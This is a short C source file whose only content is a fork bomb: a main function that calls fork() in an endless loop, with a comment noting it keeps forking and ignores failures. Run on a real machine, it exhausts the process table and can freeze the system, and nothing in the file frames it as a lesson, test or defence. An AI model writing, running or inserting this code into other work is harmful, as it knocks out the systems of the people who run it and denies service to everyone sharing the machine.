// Forks without end, and without minding a refusal.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(void) {
  for (;;) fork();
}
